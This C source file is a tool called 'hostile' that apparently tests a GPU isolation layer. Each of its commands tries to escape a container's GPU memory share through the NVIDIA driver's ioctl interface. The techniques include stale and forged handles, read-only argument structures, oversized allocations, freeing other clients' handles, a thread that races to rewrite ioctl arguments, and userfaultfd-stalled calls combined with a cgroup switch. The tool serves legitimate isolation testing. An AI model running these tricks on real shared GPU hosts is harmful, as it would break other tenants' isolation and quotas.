// SPDX-License-Identifier: MIT
/*
 * hostile: tries to get more of a GPU than its container's share, one trick for
 * each command, and says what came of it in lines of key=value.  Each trick but
 * race and tied works every time, where it works.
 */
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "nvabi/nvclass.h"
#include "nvabi/nvctrl.h"
#include "nvabi/nvos.h"
#include "nvabi/nvstatus.h"

#include "lib/client.h"

#define MIB (1ULL << 20)
#define PIECE (32 * MIB)
#define PIECES 16

static const char help[] =
	"hostile [--hold] COMMAND [ARGUMENT]\n"
	"\n"
	"  heap           names small memory as the handle of large memory\n"
	"  stale          frees and allocates with structures that cannot be written to\n"
	"  stale-dup      the same with a duplicate\n"
	"  huge           asks for nearly all that a number can say\n"
	"  small          takes many pieces in pages of 4 KiB\n"
	"  view           asks for the card's memory, structures as in stale\n"
	"  overlap        asks for the card's memory into its own question\n"
	"  attach         attaches all GPUs\n"
	"  kill CLIENT    names another's client in a call that fails\n"
	"  free CLIENT    frees another's client\n"
	"  late           allocates, waits for a line, frees\n"
	"  race           allocates and frees while a thread changes the structures\n"
	"  tied CGROUP    stops calls that tie its files, enters CGROUP, lets one after the\n"
	"                 other go on while it allocates on that file\n";

/* A copy of a structure that the driver can read and not write. */
static void *read_only(const void *from, size_t size)
{
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (page == MAP_FAILED)
		abort();
	memcpy(page, from, size);
	mprotect(page, 4096, PROT_READ);
	return page;
}

static __u64 pointer(const void *p)
{
	return (__u64)(unsigned long)p;
}

static void say_bytes(const char *key, __u64 bytes)
{
	say("%s=%" PRIu64, key, (uint64_t)bytes);
}

/* Memory of NV01_MEMORY_LOCAL_USER, as one asks for it. */
static struct NV_MEMORY_ALLOCATION_PARAMS memory_params(const struct session *s, __u64 bytes)
{
	return (struct NV_MEMORY_ALLOCATION_PARAMS){
		.owner = s->rm.client,
		.type = NVOS32_TYPE_IMAGE,
		.flags = NVOS32_ALLOC_FLAGS_MAP_NOT_REQUIRED,
		.size = bytes,
	};
}

static int cmd_heap(struct session *s, const char *argument)
{
	__u32 small, status;
	__u64 got, sum = 0;

	(void)argument;
	status = rm_memory_alloc(&s->gpu, RM_VIA_ALLOC64, 65536, &small, &got);
	for (int i = 0; status == NV_OK && i < PIECES; i++) {
		struct NVOS32_PARAMETERS args = {
			.hRoot = s->rm.client,
			.hObjectParent = s->gpu.device,
			.function = NVOS32_FUNCTION_ALLOC_SIZE,
			.data.AllocSize = {
				.owner = s->rm.client,
				.hMemory = small,
				.type = NVOS32_TYPE_IMAGE,
				.flags = NVOS32_ALLOC_FLAGS_MAP_NOT_REQUIRED,
				.size = PIECE,
			},
		};

		status = rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_VID_HEAP_CONTROL, &args,
				  sizeof(args));
		if (status == NV_OK)
			status = args.status;
		if (status == NV_OK)
			sum += PIECE;
	}
	say_bytes("bytes", sum);
	say_status("status", status);
	return 0;
}

/* A handle that was the driver's once, and is free now without our saying so. */
static __u32 stale_handle(struct session *s)
{
	struct NVOS00_PARAMETERS args = {
		.hRoot = s->rm.client,
		.hObjectParent = s->gpu.device,
	};
	__u64 limit = 4095;

	if (rm_memory_alloc_old(&s->gpu, NV01_MEMORY_SYSTEM, &limit, &args.hObjectOld) != NV_OK)
		return 0;
	rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_FREE, read_only(&args, sizeof(args)),
		 sizeof(args));
	return args.hObjectOld;
}

static int cmd_stale(struct session *s, const char *argument)
{
	(void)argument;
	for (int i = 0; i < PIECES; i++) {
		struct NV_MEMORY_ALLOCATION_PARAMS params = memory_params(s, PIECE);
		struct NVOS64_PARAMETERS args = {
			.hRoot = s->rm.client,
			.hObjectParent = s->gpu.device,
			.hObjectNew = stale_handle(s),
			.hClass = NV01_MEMORY_LOCAL_USER,
			.pAllocParms = pointer(&params),
			.paramsSize = s->rm.branch->memory_alloc_size,
		};

		rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_ALLOC, read_only(&args, sizeof(args)),
			 sizeof(args));
	}
	return 0;
}

static int cmd_stale_dup(struct session *s, const char *argument)
{
	(void)argument;
	for (int i = 0; i < PIECES; i++) {
		struct NVOS55_PARAMETERS args = {
			.hClient = s->rm.client,
			.hParent = s->gpu.device,
			.hObject = stale_handle(s),
			.hClientSrc = s->rm.client,
		};
		__u64 got;

		if (rm_memory_alloc(&s->gpu, RM_VIA_ALLOC64, PIECE, &args.hObjectSrc, &got))
			break;
		rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_DUP_OBJECT,
			 read_only(&args, sizeof(args)), sizeof(args));
		rm_free(&s->rm, s->gpu.device, args.hObjectSrc);
	}
	return 0;
}

static int cmd_huge(struct session *s, const char *argument)
{
	__u32 handle;
	__u64 got;

	(void)argument;
	say_status("status", rm_memory_alloc(&s->gpu, RM_VIA_ALLOC64, -(64 * MIB), &handle, &got));
	return 0;
}

static int cmd_small(struct session *s, const char *argument)
{
	__u32 status = NV_OK;

	(void)argument;
	for (int i = 0; status == NV_OK && i < 256; i++) {
		struct NV_MEMORY_ALLOCATION_PARAMS params = memory_params(s, 4096);
		__u32 handle;

		params.attr = NVOS32_ATTR_PAGE_SIZE_4KB << NVOS32_ATTR_PAGE_SIZE_SHIFT;
		status = rm_alloc(&s->rm, s->gpu.device, &handle, NV01_MEMORY_LOCAL_USER, &params,
				  s->rm.branch->memory_alloc_size);
	}
	say_status("status", status);
	return 0;
}

static struct NVOS54_PARAMETERS control(const struct session *s, __u32 cmd, const void *params,
					size_t size)
{
	return (struct NVOS54_PARAMETERS){
		.hClient = s->rm.client,
		.hObject = s->gpu.subdevice,
		.cmd = cmd,
		.params = pointer(params),
		.paramsSize = (__u32)size,
	};
}

static int cmd_view(struct session *s, const char *argument)
{
	struct NVXXXX_CTRL_XXX_INFO list[2] = {
		{ .index = NV2080_CTRL_FB_INFO_INDEX_HEAP_SIZE },
		{ .index = NV2080_CTRL_FB_INFO_INDEX_HEAP_FREE },
	};
	struct NV2080_CTRL_FB_GET_INFO_V2_PARAMS inside = { .fbInfoListSize = 2 };
	struct NV2080_CTRL_FB_GET_INFO_PARAMS beside = {
		.fbInfoListSize = 2,
		.fbInfoList = pointer(list),
	};
	struct NVOS54_PARAMETERS v1 = control(s, NV2080_CTRL_CMD_FB_GET_INFO, &beside,
					      sizeof(beside));
	struct NVOS54_PARAMETERS v2 = control(s, NV2080_CTRL_CMD_FB_GET_INFO_V2, &inside,
					      s->rm.branch->fb_info_v2_size);

	(void)argument;
	memcpy(inside.fbInfoList, list, sizeof(list));
	rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_CONTROL, read_only(&v1, sizeof(v1)), sizeof(v1));
	rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_CONTROL, read_only(&v2, sizeof(v2)), sizeof(v2));
	say_bytes("total", (__u64)list[0].data << 10);
	say_bytes("free", (__u64)list[1].data << 10);
	say_bytes("total_v2", (__u64)inside.fbInfoList[0].data << 10);
	say_bytes("free_v2", (__u64)inside.fbInfoList[1].data << 10);
	return 0;
}

/* The answer's index lies where the driver writes the status, after the answer. */
static int cmd_overlap(struct session *s, const char *argument)
{
	struct {
		struct NVOS54_PARAMETERS args;
		__u32 data;
	} question;
	struct NV2080_CTRL_FB_GET_INFO_PARAMS params = { .fbInfoListSize = 1 };

	(void)argument;
	question.args = control(s, NV2080_CTRL_CMD_FB_GET_INFO, &params, sizeof(params));
	question.args.status = NV2080_CTRL_FB_INFO_INDEX_HEAP_SIZE;
	question.data = 0;
	params.fbInfoList = pointer(&question.args.status);
	rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_CONTROL, &question.args, sizeof(question.args));
	say_status("status", question.args.status);
	say_bytes("total", (__u64)question.data << 10);
	return 0;
}

static int cmd_attach(struct session *s, const char *argument)
{
	struct NV0000_CTRL_GPU_ATTACH_IDS_PARAMS params = {
		.gpuIds = { NV0000_CTRL_GPU_ATTACH_ALL_PROBED_IDS, NV0000_CTRL_GPU_INVALID_ID },
	};
	__u32 status = rm_control(&s->rm, s->rm.client, NV0000_CTRL_CMD_GPU_ATTACH_IDS, &params,
				  sizeof(params));
	bool own = params.gpuIds[0] == s->gpu.card->gpu_id &&
		   params.gpuIds[1] == NV0000_CTRL_GPU_INVALID_ID;

	(void)argument;
	say_status("status", status);
	check("own_only", own);
	return 0;
}

static int cmd_kill(struct session *s, const char *argument)
{
	__u32 client = (__u32)strtoul(argument, NULL, 16);
	struct NVOS64_PARAMETERS args = {
		.hRoot = client,
		.hObjectParent = client,
		.hClass = NV01_MEMORY_SYSTEM,
	};

	say_status("status", rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_ALLOC,
				      read_only(&args, sizeof(args)), sizeof(args)));
	return 0;
}

static int cmd_free(struct session *s, const char *argument)
{
	s->rm.client = (__u32)strtoul(argument, NULL, 16);
	say_status("status", rm_free(&s->rm, 0, s->rm.client));
	return 0;
}

static int cmd_late(struct session *s, const char *argument)
{
	__u32 memory, status;
	__u64 got;

	(void)argument;
	status = rm_memory_alloc(&s->gpu, RM_VIA_ALLOC64, PIECE, &memory, &got);
	if (status != NV_OK)
		return fail("alloc", status);
	hold(s->options);
	say_status("freed", rm_free(&s->rm, s->gpu.device, memory));
	return 0;
}

/* What both threads of the race work on. */
static struct {
	union {
		struct NVOS64_PARAMETERS alloc;
		struct NVOS00_PARAMETERS free;
	} args;
	__u32 handle;
	bool over;
} track;

static void *change(void *unused)
{
	volatile __u32 *handle = &track.args.alloc.hObjectNew;
	volatile __u32 *status = &track.args.alloc.status;

	(void)unused;
	while (!__atomic_load_n(&track.over, __ATOMIC_RELAXED)) {
		*handle = track.handle + 1;
		*status = NV_OK;
		*handle = track.handle;
		*status = NV_ERR_NO_MEMORY;
	}
	return NULL;
}

static void lap(struct session *s, int number)
{
	struct NV_MEMORY_ALLOCATION_PARAMS params = memory_params(s, 65536);

	track.handle = 0x5c000000u + 2u * (number & 7);
	track.args.alloc = (struct NVOS64_PARAMETERS){
		.hRoot = s->rm.client,
		.hObjectParent = s->gpu.device,
		.hObjectNew = track.handle,
		.hClass = NV01_MEMORY_LOCAL_USER,
		.pAllocParms = pointer(&params),
		.paramsSize = s->rm.branch->memory_alloc_size,
	};
	rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_ALLOC, &track.args.alloc,
		 sizeof(track.args.alloc));
	track.args.free = (struct NVOS00_PARAMETERS){
		.hRoot = s->rm.client,
		.hObjectParent = s->gpu.device,
		.hObjectOld = track.handle,
	};
	rm_ioctl(&s->rm, s->rm.control, NV_ESC_RM_FREE, &track.args.free,
		 sizeof(track.args.free));
}

static int cmd_race(struct session *s, const char *argument)
{
	pthread_t thread;

	(void)argument;
	if (pthread_create(&thread, NULL, change, NULL))
		return 1;
	for (int i = 0; i < 1000; i++)
		lap(s, i);
	__atomic_store_n(&track.over, true, __ATOMIC_RELAXED);
	pthread_join(thread, NULL);
	say("over=1");
	return 0;
}

#define PAGE 4096
#define FILES 64

/* Calls that tie a file to another one, each stopped while it reads its structure. */
static struct {
	int fault;
	char *pages;
	struct rm files[FILES];
	int number;
	volatile int go;
} ties;

static void *tie(void *file)
{
	struct rm *rm = file;

	ioctl(rm->control, _IOWR(NV_IOCTL_MAGIC, NV_ESC_REGISTER_FD, struct nv_ioctl_register_fd_t),
	      ties.pages + (rm - ties.files) * PAGE);
	return NULL;
}

/* Each time a little later: at some time the call is in the driver and not yet over. */
static void *release(void *file)
{
	char page[PAGE] = { 0 };
	struct uffdio_copy copy = {
		.dst = pointer(ties.pages + ties.number * PAGE),
		.src = pointer(page),
		.len = PAGE,
	};

	memcpy(page, &((struct rm *)file)->control, sizeof(int));
	while (!ties.go)
		sched_yield();
	for (int i = 0; i < ties.number % 16; i++)
		sched_yield();
	ioctl(ties.fault, UFFDIO_COPY, &copy);
	return NULL;
}

static int stop_ties(const struct options *options)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register what = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	pthread_t thread;

	ties.fault = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	ties.pages = mmap(NULL, FILES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
			  -1, 0);
	what.range.start = pointer(ties.pages);
	what.range.len = FILES * PAGE;
	if (ties.fault < 0 || ties.pages == MAP_FAILED || ioctl(ties.fault, UFFDIO_API, &api) ||
	    ioctl(ties.fault, UFFDIO_REGISTER, &what))
		return 77;
	for (int i = 0; i < FILES; i++)
		if (rm_open(&ties.files[i], options->devices) ||
		    pthread_create(&thread, NULL, tie, &ties.files[i]))
			return 1;
	/* Until all of them wait for their pages. */
	usleep(200000);
	return 0;
}

/* In pages that are larger than what is asked for. */
static __u32 take_tied(struct session *s, struct rm *rm, __u32 *contexts)
{
	struct NV0080_ALLOC_PARAMETERS device = { .deviceId = s->gpu.card->device_instance };
	struct NV_MEMORY_ALLOCATION_PARAMS params = memory_params(s, 65536);
	__u32 parent = 0, handle = 0, status;
	pthread_t thread;

	params.attr = NVOS32_ATTR_PAGE_SIZE_HUGE << NVOS32_ATTR_PAGE_SIZE_SHIFT;
	ties.go = 0;
	ties.number = (int)(rm - ties.files);
	status = rm_client_create(rm);
	if (status == NV_OK)
		status = rm_alloc(rm, rm->client, &parent, NV01_DEVICE_0, &device, sizeof(device));
	if (status != NV_OK)
		return status;
	++*contexts;
	params.owner = rm->client;
	if (pthread_create(&thread, NULL, release, &s->rm))
		abort();
	ties.go = 1;
	status = rm_alloc(rm, parent, &handle, NV01_MEMORY_LOCAL_USER, &params,
			  s->rm.branch->memory_alloc_size);
	pthread_join(thread, NULL);
	return status;
}

static int cmd_tied(struct session *s, const char *argument)
{
	__u32 contexts = 0, made = 0;
	char path[256];
	int procs, ret = stop_ties(s->options);

	if (ret)
		return ret;
	snprintf(path, sizeof(path), "%s/cgroup.procs", argument);
	procs = open(path, O_WRONLY | O_CLOEXEC);
	if (procs < 0 || write(procs, "0", 1) != 1)
		return 1;
	for (int i = 0; i < FILES; i++)
		made += take_tied(s, &ties.files[i], &contexts) == NV_OK;
	say("contexts=%u", contexts);
	say("made=%u", made);
	return 0;
}

static const struct command {
	const char *name;
	int (*run)(struct session *s, const char *argument);
	bool takes_argument;
} commands[] = {
	{ "heap", cmd_heap, false },
	{ "stale", cmd_stale, false },
	{ "stale-dup", cmd_stale_dup, false },
	{ "huge", cmd_huge, false },
	{ "small", cmd_small, false },
	{ "view", cmd_view, false },
	{ "overlap", cmd_overlap, false },
	{ "attach", cmd_attach, false },
	{ "kill", cmd_kill, true },
	{ "free", cmd_free, true },
	{ "late", cmd_late, false },
	{ "race", cmd_race, false },
	{ "tied", cmd_tied, true },
};

static const struct command *find_command(const char *name)
{
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		if (!strcmp(commands[i].name, name))
			return &commands[i];
	return NULL;
}

int main(int argc, char **argv)
{
	static const struct option longs[] = {
		{ "hold", no_argument, NULL, 'h' },
		{ 0 },
	};
	struct options options = { .devices = "/dev" };
	const struct command *command;
	struct session s;
	int c, ret;

	while ((c = getopt_long(argc, argv, "", longs, NULL)) != -1) {
		if (c != 'h')
			goto usage;
		options.hold = true;
	}
	command = optind < argc ? find_command(argv[optind]) : NULL;
	if (!command || argc - optind != (command->takes_argument ? 2 : 1))
		goto usage;
	if (session_open(&s, &options))
		return 1;
	ret = command->run(&s, argv[optind + 1]);
	hold(&options);
	session_close(&s);
	return ret;
usage:
	fputs(help, stderr);
	return 2;
}
